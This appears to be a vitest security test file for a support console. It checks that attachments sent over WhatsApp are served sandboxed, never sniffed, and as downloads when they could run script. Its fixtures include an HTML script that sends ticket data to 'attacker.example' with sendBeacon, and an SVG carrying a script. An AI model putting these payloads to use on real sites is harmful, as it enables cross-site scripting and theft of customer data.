import { createHash } from 'node:crypto';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { wa } from '@keluh/meta-sim';
import type { Message } from '@keluh/core';
import { eventually } from '../../testing/test-app.ts';
import { startChannelHarness, type ChannelHarness } from '../../testing/channel-harness.ts';

const PNG = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(64, 1)]);
const HTML = Buffer.from('<!doctype html><title>Struk</title><script>fetch("/api/tickets").then(r=>r.text()).then(t=>navigator.sendBeacon("https://attacker.example/",t))</script>');
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.domain)</script></svg>');
const PDF = Buffer.from('%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n');

/**
 * A customer controls both the bytes of an attachment and the type their phone (or a crafted client)
 * claims for it. Whatever they send, it reaches the agent's browser as a picture, a video, a sound or a
 * download: never as a page that runs in the console's origin.
 */
describe('channel media served to the console', () => {
  let h: ChannelHarness;
  let n = 0;
  beforeAll(async () => {
    h = await startChannelHarness();
  });
  afterEach(async () => {
    await h.sim.settle();
  });
  afterAll(() => h.close());

  /** The customer sends `bytes` as a WhatsApp image (or document) claiming `claimed`; returns what we stored and serve. */
  async function receive(bytes: Buffer, claimed: string, kind: 'image' | 'document' = 'image') {
    n += 1;
    const id = `wamid.media-route.${n}`;
    const ref = h.sim.media.describe(h.sim.media.add(bytes, claimed));
    const spec = kind === 'image' ? wa.image(ref, { id }) : wa.document(ref, { id, filename: 'struk.pdf' });
    await h.sim.webhooks.whatsapp.inbound({ name: 'Rina', waId: `628120000${String(n).padStart(4, '0')}` }, spec);
    let attachment: Message['attachments'][number] | undefined;
    await eventually(async () => {
      attachment = (await h.message('whatsapp', id)).attachments[0];
      expect(attachment?.state).toBe('stored');
    });
    const served = await h.t.app.inject({ method: 'GET', url: attachment!.url!, headers: h.headers });
    expect(served.statusCode).toBe(200);
    expect(served.rawPayload.equals(bytes)).toBe(true);
    return { attachment: attachment!, headers: served.headers };
  }

  const sandboxed = (headers: Record<string, unknown>) => {
    expect(headers['x-content-type-options']).toBe('nosniff');
    expect(headers['content-security-policy']).toMatch(/(^|;\s*)sandbox(;|$)/);
    expect(headers['content-security-policy']).toContain("default-src 'none'");
    expect(headers['cross-origin-resource-policy']).toBe('same-origin');
  };

  it('shows an allow-listed photo inline, sandboxed and never sniffed', async () => {
    const { attachment, headers } = await receive(PNG, 'image/png');
    expect(attachment.mimeType).toBe('image/png');
    expect(headers['content-type']).toBe('image/png');
    expect(headers['content-disposition']).toBe('inline');
    sandboxed(headers);
  });

  it('stores and serves an HTML page claimed as image/jpeg as a download, not as a page', async () => {
    const { attachment, headers } = await receive(HTML, 'image/jpeg');
    expect(attachment.mimeType).toBe('application/octet-stream');
    expect(headers['content-type']).toBe('application/octet-stream');
    expect(headers['content-disposition']).toBe('attachment');
    sandboxed(headers);
  });

  it('serves an SVG (which can carry script) as a download, even when it claims to be one', async () => {
    const { attachment, headers } = await receive(SVG, 'image/svg+xml');
    expect(attachment.mimeType).toBe('application/octet-stream');
    expect(headers['content-type']).toBe('application/octet-stream');
    expect(headers['content-disposition']).toBe('attachment');
    sandboxed(headers);
  });

  it('serves a PDF as a download with its own type', async () => {
    const { attachment, headers } = await receive(PDF, 'application/pdf', 'document');
    expect(attachment).toMatchObject({ kind: 'document', mimeType: 'application/pdf', filename: 'struk.pdf' });
    expect(headers['content-type']).toBe('application/pdf');
    expect(headers['content-disposition']).toBe('attachment');
    sandboxed(headers);
  });

  it('takes the type from the bytes, whatever the channel claimed', async () => {
    const { attachment, headers } = await receive(PNG, 'text/html');
    expect(attachment.mimeType).toBe('image/png');
    expect(headers['content-type']).toBe('image/png');
    expect(headers['content-disposition']).toBe('inline');
  });

  it('decides again when serving, so a file stored under the sender’s claim is still a download', async () => {
    // As kept before types were decided: the sidecar says text/html.
    const stored = await h.t.app.services.media.save(HTML, 'text/html');
    const served = await h.t.app.inject({ method: 'GET', url: `/api/media/${stored.sha256}`, headers: h.headers });
    expect(stored.sha256).toBe(createHash('sha256').update(HTML).digest('hex'));
    expect(served.headers['content-type']).toBe('application/octet-stream');
    expect(served.headers['content-disposition']).toBe('attachment');
    sandboxed(served.headers);
  });
});
